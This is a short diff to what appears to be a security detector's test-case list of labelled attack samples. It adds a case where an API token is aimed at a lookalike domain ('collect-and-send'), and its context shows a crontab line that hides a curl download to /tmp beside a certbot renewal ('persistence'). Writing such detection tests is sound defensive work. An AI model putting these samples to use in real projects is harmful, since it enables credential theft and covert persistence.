@@ -17,6 +17,11 @@ export const ATTACKS: readonly (readonly [string, Texts, string])[] = [
   ],
   ['a token for another service', { 'a.mjs': TOKEN(HOST) }, 'collect-and-send'],
   [
+    'a token for the name of its service under another domain',
+    { 'a.mjs': TOKEN('https://openai.xyz/v1') },
+    'collect-and-send',
+  ],
+  [
     'a job that brings code beside a maintenance command',
     { 'a.sh': `(crontab -l; echo "0 3 * * * certbot renew -q; curl -s ${HOST} -o /tmp/a") | crontab -\n` },
     'persistence',
